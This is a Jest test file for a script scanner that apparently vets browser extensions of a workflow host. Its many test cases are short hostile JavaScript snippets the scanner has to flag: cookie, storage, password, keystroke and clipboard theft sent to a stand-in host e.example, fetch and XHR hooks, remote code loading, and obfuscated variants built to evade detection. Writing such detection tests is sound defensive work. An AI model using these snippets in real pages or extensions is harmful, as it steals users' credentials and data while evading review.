import { describe, expect, it } from '@jest/globals';
import { checkAllScripts, checkScript } from '../../src/analysis/checks/javascript.js';

const isHeld = (source: string): boolean => checkScript(source).some(({ level }) => level === 'hold');

describe('the checks follow values in a script', () => {
  it.each<[string, string]>([
    ['names a cookie in a `with` statement', `with (document) { fetch("https://e.example/?" + cookie); }`],
    [
      'names the storage in a `with` statement',
      `with (window) { const s = localStorage; navigator.sendBeacon("https://e.example/", s.token); }`,
    ],
    [
      'reads a cookie by the getter of its property',
      `const {get} = Object.getOwnPropertyDescriptor(Document.prototype, "cookie"); fetch("https://e.example/", {method:"POST", body: get.call(document)});`,
    ],
    [
      'searches the names of the global object',
      `const k = Object.keys(window).find(n => n.startsWith("local")); const f = Object.getOwnPropertyNames(window).filter(n => n.length === 5)[0]; window[f]("https://e.example/", { body: JSON.stringify(window[k]) });`,
    ],
    ['evaluates a text of parts that sends', `eval("fet" + "ch('https://e.example/?' + document.cookie)");`],
    [
      'makes a function of a constant that sends',
      `new Function("return fetch('https://e.example/', {method:'POST', body: localStorage.getItem('a')})")();`,
    ],
    ['lets a timer run a constant that sends', `setTimeout("fetch('https://e.example/?'+document.cookie)", 10);`],
    [
      'names a sender by a list of codes',
      `const c = [102,101,116,99,104].map(c => String.fromCharCode(c)).join(""); globalThis[c]("https://e.example/", {body: document.cookie});`,
    ],
    [
      'reverses names and addresses',
      `const d = s => s.split("").reverse().join(""); self[d("hctef")](d("/elpmaxe.e//:sptth"), { body: self[d("egarotSlacol")].getItem("x") });`,
    ],
    [
      'sends all entries of the storage',
      `const x = new XMLHttpRequest(); x["open"]("POST", "https://e.example/"); x.send(Object.entries(localStorage).map(([k, v]) => k + "=" + v).join("&"));`,
    ],
    [
      'collects the items of the storage in a loop',
      `const data = {}; for (let i = 0; i < localStorage.length; i++) { const k = localStorage.key(i); data[k] = localStorage.getItem(k); } fetch("https://e.example/", { method: "POST", body: JSON.stringify(data) });`,
    ],
    [
      'sends through a method of a class',
      `class Api { constructor(u) { this.u = u; } post(b) { return fetch(this.u, { method: "POST", body: b }); } } const a = new Api("https://e.example/"); a.post(sessionStorage.getItem("t"));`,
    ],
    [
      'sends through a getter of an object',
      `const send = { to: "https://e.example/", get go() { return (b) => navigator.sendBeacon(this.to, b); } }; send.go(document.cookie);`,
    ],
    [
      'sends what a generator yields',
      `function* g() { yield document.cookie; } for (const c of g()) new Image().src = "https://e.example/?" + c;`,
    ],
    [
      'sends what a promise gives',
      `const p = new Promise((r) => r(localStorage.getItem("x"))); p.then((v) => fetch("https://e.example/", { body: v }));`,
    ],
    [
      'sends what an asynchronous function returns',
      `async function grab() { return localStorage.getItem("t"); } (async () => { const v = await grab(); await fetch("https://e.example/" + "?" + v); })();`,
    ],
    [
      'collects typed keys and sends them later',
      `document.addEventListener("keydown", function (e) { window.__b = (window.__b || "") + e.key; }); setInterval(function () { navigator.sendBeacon("https://e.example/", window.__b); }, 5000);`,
    ],
    [
      'sends what is typed in any field',
      `document.addEventListener("input", (e) => { if (e.target.type === "password") fetch("https://e.example/", { method: "POST", body: e.target.value }); });`,
    ],
    [
      'takes the sender and the storage of a frame',
      `const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.fetch("https://e.example/", { body: f.contentWindow.localStorage.getItem("x") });`,
    ],
    [
      'imports code in an address',
      `import("data:text/javascript," + encodeURIComponent("fetch('https://e.example/')"));`,
    ],
    [
      'imports decoded code from a blob',
      `const u = URL.createObjectURL(new Blob([atob("ZmV0Y2goJ2h0dHBzOi8vZS5leGFtcGxlLycp")], {type: "text/javascript"})); import(u);`,
    ],
    [
      'assigns the address of a script with others',
      `const s = document.createElement("script"); Object.assign(s, { src: "https://e.example/a.js" }); document.head.appendChild(s);`,
    ],
    [
      'names the script element in parts',
      `const s = document.createElement(["scr","ipt"].join("")); s["sr" + "c"] = ["https:/", "e.example", "a.js"].join("/"); document.head.append(s);`,
    ],
    [
      'loads a script by a helper',
      `const $el = (t, p) => Object.assign(document.createElement(t), p); $el("script", { src: "https://e.example/x.js" });`,
    ],
    [
      'adds a handler with code to the page',
      `document.body.innerHTML += '<img src=x onerror="fetch(\\'https://e.example/?\\'+document.cookie)">';`,
    ],
    [
      'sets a handler with code',
      `const el = document.createElement("div"); el.setAttribute("onclick", "fetch('https://e.example/?' + document.cookie)");`,
    ],
    [
      'registers a service worker for the whole page',
      `navigator.serviceWorker.register("/extensions/a/sw.js", { scope: "/" });`,
    ],
    [
      'replaces `fetch` to send a copy',
      `const o = window.fetch; window.fetch = function (u, i) { o("https://e.example/", { method: "POST", body: i && i.body }); return o.apply(this, arguments); };`,
    ],
    [
      'stands a proxy in for `fetch`',
      `window.fetch = new Proxy(window.fetch, { apply(t, th, a) { navigator.sendBeacon("https://e.example/", JSON.stringify(a)); return Reflect.apply(t, th, a); } });`,
    ],
    [
      'replaces a method of requests',
      `const s = XMLHttpRequest.prototype.setRequestHeader; XMLHttpRequest.prototype.setRequestHeader = function (k, v) { new Image().src = "https://e.example/?" + k + v; return s.call(this, k, v); };`,
    ],
    [
      'sends a database that others made',
      `const db = indexedDB.open("firebaseLocalStorageDb"); db.onsuccess = function () { const q = this.result.transaction("x").objectStore("x").getAll(); q.onsuccess = function () { fetch("https://e.example/", { method: "POST", body: JSON.stringify(q.result) }); }; };`,
    ],
    [
      'sends what the user has copied',
      `navigator.clipboard.readText().then((t) => { fetch("https://e.example/", { method: "POST", body: t }); });`,
    ],
    [
      'runs messages of a socket',
      `const ws = new WebSocket("wss://e.example"); ws.addEventListener("message", ({ data }) => new Function(data)());`,
    ],
    [
      'sends a copy of the storage through a socket',
      `const ws = new WebSocket("wss://e.example"); ws.addEventListener("open", () => ws.send(JSON.stringify({ ...localStorage })));`,
    ],
    [
      'submits a form with a secret',
      `const form = document.createElement("form"); form.action = "https://e.example/"; form.method = "POST"; const i = document.createElement("input"); i.name = "c"; i.value = document.cookie; form.append(i); document.body.append(form); form.submit();`,
    ],
    ['opens an address with a secret', `location.href = "https://e.example/?" + encodeURIComponent(document.cookie);`],
    ['opens a window with a secret', `window.open("https://e.example/?" + localStorage.getItem("k"));`],
    ['posts the storage to the page around it', `parent.postMessage(JSON.stringify(localStorage), "*");`],
    [
      'gives a secret to a relay',
      `const pc = new RTCPeerConnection({ iceServers: [{ urls: "turn:e.example", username: document.cookie, credential: "x" }] });`,
    ],
    [
      'prefetches an address with a secret',
      `const link = document.createElement("link"); link.rel = "prefetch"; link.href = "https://e.example/" + document.cookie; document.head.append(link);`,
    ],
    [
      'adds a secret to an address',
      `const u = new URL("https://e.example/"); u.searchParams.set("c", localStorage.getItem("a")); fetch(u);`,
    ],
    [
      'composes the query of a secret',
      `const q = new URLSearchParams({ c: document.cookie }); fetch("https://e.example/?" + q);`,
    ],
    [
      'sends with the image of a style',
      `document.body.style.backgroundImage = "url(https://e.example/" + btoa(document.cookie) + ")";`,
    ],
    [
      'sends a secret in a header',
      `const t = localStorage.getItem("a"); const h = { "x-t": t }; fetch("https://e.example/", { headers: h });`,
    ],
    [
      'takes the address from a file',
      `const cfg = await (await fetch("./c.json")).json(); fetch(cfg.u, { method: "POST", body: document.cookie });`,
    ],
    ['evaluates a file', `(0, eval)((await (await fetch("./payload.txt")).text()));`],
    [
      'makes an asynchronous function of a file',
      `const F = Object.getPrototypeOf(async function () {}).constructor; const c = await (await fetch("./x.txt")).text(); await new F(c)();`,
    ],
    ['constructs a function of a file', `Reflect.construct(Function, [await (await fetch("./x.txt")).text()])();`],
    ['takes the class of functions from a list', `[].constructor.constructor(await (await fetch("/x.txt")).text())();`],
    [
      'makes a worker of a text that contains a cookie',
      'const w = new Worker(URL.createObjectURL(new Blob([`fetch("https://e.example/?" + "${document.cookie}")`])));',
    ],
    [
      'makes a worker of a text that loads code',
      `const w = new Worker(URL.createObjectURL(new Blob(["importScripts('https://e.example/a.js')"])));`,
    ],
    [
      'fills a script with an answer',
      `const x = new XMLHttpRequest(); x.open("GET", "https://e.example/a"); x.onload = () => { const s = document.createElement("script"); s.text = x.responseText; document.head.append(s); }; x.send();`,
    ],
    [
      'takes the storage out of an object',
      `const store = { a: localStorage }; const { a: { token } } = store; fetch("https://e.example/", { body: token });`,
    ],
    [
      'loops over the names of storages',
      `["localStorage", "sessionStorage"].forEach((n) => fetch("https://e.example/", { method: "POST", body: JSON.stringify(window[n]) }));`,
    ],
    [
      'adds up the names of the storage and the address',
      `let k = "local"; k += "Storage"; const s = top[k]; let u = "https:"; u += "//e.example"; fetch(u, { body: s.getItem("x") });`,
    ],
    [
      'takes the address from a map',
      `const m = new Map([["u", "https://e.example/"]]); fetch(m.get("u"), { method: "POST", body: document.cookie });`,
    ],
    [
      'sends the workflow at the start',
      `app.registerExtension({ name: "a", async setup() { const p = await app.graphToPrompt(); fetch("https://e.example/", { method: "POST", body: JSON.stringify(p) }); } });`,
    ],
    [
      'replaces the queue of the host',
      `import { api } from "../../scripts/api.js"; const o = api.queuePrompt.bind(api); api.queuePrompt = async function (n, p) { navigator.sendBeacon("https://e.example/", JSON.stringify(p)); return o(n, p); };`,
    ],
    [
      'replaces a hook of nodes',
      `app.registerExtension({ name: "a", async beforeRegisterNodeDef(nodeType) { const f = nodeType.prototype.onExecuted; nodeType.prototype.onExecuted = function (m) { fetch("https://e.example/", { method: "POST", body: JSON.stringify(m) }); return f?.apply(this, arguments); }; } });`,
    ],
    [
      'inserts a fragment with a remote script',
      `const r = document.createRange(); document.body.append(r.createContextualFragment("<script src='https://e.example/a.js'></scr" + "ipt>"));`,
    ],
    [
      'connects to an address with a secret',
      `const c = document.cookie; const e = new EventSource("https://e.example/?c=" + c);`,
    ],
    ['plays an address with a secret', `const audio = new Audio("https://e.example/?" + localStorage.getItem("a"));`],
    [
      'sends passwords when they change',
      `document.querySelectorAll("input[type=password]").forEach((f) => f.addEventListener("change", () => fetch("https://e.example/", { method: "POST", body: f.value })));`,
    ],
    [
      'decodes the address',
      `const n = atob("aHR0cHM6Ly9lLmV4YW1wbGUv"); fetch(n, { method: "POST", body: localStorage.getItem("a") });`,
    ],
    ['decodes the name of a function', `const x = "ZmV0Y2g="; window[atob(x)]("/a");`],
    [
      'sends with the options of jQuery',
      `$.ajax({ url: "https://e.example/", type: "POST", data: { c: document.cookie } });`,
    ],
    ['sends with axios', `import axios from "axios"; axios.post("https://e.example/", localStorage);`],
    [
      'sends with a client of axios',
      `const c = axios.create({ baseURL: "https://e.example/" }); c.post("/x", { t: localStorage.getItem("t") });`,
    ],
    [
      'replaces what is copied and sends the selection',
      `document.addEventListener("copy", (e) => { fetch("https://e.example/", { method: "POST", body: getSelection().toString() }); e.clipboardData.setData("text/plain", "0xabc"); });`,
    ],
    [
      'passes a secret through functions',
      `const f = (a, ...b) => b.reduce((x, y) => y(x), a); f(document.cookie, btoa, (v) => fetch("https://e.example/?" + v));`,
    ],
    ['throws a secret and sends it', `try { throw document.cookie; } catch (e) { fetch("https://e.example/?" + e); }`],
    [
      'turns an object into a secret text',
      `const g = { toString() { return document.cookie; } }; fetch("https://e.example/?" + g);`,
    ],
    [
      'requests each item',
      `label: for (const [k, v] of Object.entries(sessionStorage)) { fetch(\`https://e.example/\${k}\`); }`,
    ],
    [
      'fills a module with a remote import',
      `const t = document.createElement("script"); t.type = "module"; t.innerHTML = \`import "https://e.example/m.js"\`; document.head.append(t);`,
    ],
    [
      'sends the position of each letter of a cookie',
      `for (const letter of document.cookie) new Image().src = "https://e.example/" + "abc".indexOf(letter);`,
    ],
    [
      'sends a token in a header',
      `fetch("//e.example/x", { credentials: "include", headers: { Authorization: \`Bearer \${localStorage.getItem("auth_token")}\` } });`,
    ],
  ])('that %s', (_what, source) => expect(isHeld(source)).toBe(true));

  it('from one file to another', () => {
    const texts = new Map([
      ['web/a.js', 'import { cookieOf } from "./b.js"; fetch("https://e.example/", { body: cookieOf() });'],
      ['web/b.js', 'export const cookieOf = () => document.cookie;'],
    ]);
    expect(checkAllScripts(texts)).toMatchObject([{ level: 'hold', path: 'web/a.js', line: 1 }]);
  });

  it('hidden in a library', () => {
    const library = Array.from({ length: 4000 }, (_, index) => `function f${index}(a) { return a + ${index}; }`);
    library.splice(2000, 0, '(function () { var c = document.cookie; fetch("https://e.example/?" + c); })();');
    expect(checkScript(library.join('\n'))[0]).toMatchObject({ level: 'hold', line: 2001 });
  });
});
